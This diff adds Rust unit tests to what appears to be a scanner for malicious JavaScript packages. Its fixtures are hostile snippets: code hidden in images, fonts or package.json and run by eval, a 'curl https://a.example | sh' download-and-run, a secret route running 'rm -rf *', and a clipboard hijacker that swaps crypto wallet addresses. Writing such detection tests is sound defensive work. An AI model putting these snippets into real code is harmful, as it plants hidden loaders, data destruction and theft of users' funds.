@@ -239,3 +239,50 @@ fn miners_that_are_started_are_found() {
     let code = "require('child_process').spawn('./xmrig',['-o','stratum+tcp://pool.example:3333'])";
     finds(&import(code), code, "js-miner", Severity::High);
 }
+
+#[test]
+fn code_in_data_is_found() {
+    for code in [
+        "const fs=require('fs'),path=require('path');eval(fs.readFileSync(path.join(__dirname,'logo.png')).toString().slice(800))",
+        "const f=require('fs');new Function('require',f.readFileSync(__dirname+'/assets/a.woff','utf8').split('//')[1])(require)",
+        "const p=require('./package.json');eval(Buffer.from(p.config.seed,'base64').toString())",
+        "const {readFileSync}=require('fs');const src=readFileSync(__filename,'utf8');eval(src.split('/*')[1].split('*/')[0])",
+        "require('fs').readFile('./LICENSE.txt','utf8',(e,t)=>{require('vm').runInThisContext(t.slice(1000))})",
+    ] {
+        finds(&import(code), code, "js-data-eval", Severity::High);
+    }
+    for code in [
+        "const fs=require('fs');const vm=require('vm');exports.run=(f)=>vm.runInThisContext(fs.readFileSync(f,'utf8'))",
+        "const {version}=require('./package.json');new Function('return '+x)()",
+    ] {
+        quiet(&import(code), code);
+    }
+}
+
+#[test]
+fn code_for_another_node_and_written_scripts_are_read() {
+    let code = "const {spawn}=require('child_process');spawn(process.execPath,['-e',Buffer.from('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik=','base64').toString()],{detached:true,stdio:'ignore'})";
+    finds(&import(code), code, "js-decode-eval", Severity::High);
+    let code = "require('child_process').spawn('node',['-e',`require('child_process').exec('curl https://a.example | sh')`])";
+    finds(&import(code), code, "js-shell-download-run", Severity::High);
+    let code =
+        "require('fs').writeFileSync('/tmp/a.sh','#!/bin/sh\\ncurl https://a.example/x | sh\\n')";
+    finds(
+        &install(code),
+        code,
+        "js-shell-download-run",
+        Severity::High,
+    );
+    let code =
+        "app.get('/x',(q,r)=>{if(q.query.k==='k')require('child_process').exec('rm -rf *')})";
+    finds(&execute(code), code, "js-shell-destroy", Severity::High);
+    let code = "const c=require('clipboardy');setInterval(()=>{const t=c.readSync();if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t))c.writeSync('x');if(/^0x[a-fA-F0-9]{40}$/.test(t))c.writeSync('y')},500)";
+    finds(&import(code), code, "js-wallet-hijack", Severity::High);
+    for code in [
+        "require('child_process').spawn('node',['-e','console.log(process.version)'])",
+        "require('child_process').execSync('rm -rf *',{cwd:out})",
+        "require('fs').writeFileSync('run.sh','#!/bin/sh\\nexec node \"$0\"\\n')",
+    ] {
+        quiet(&import(code), code);
+    }
+}
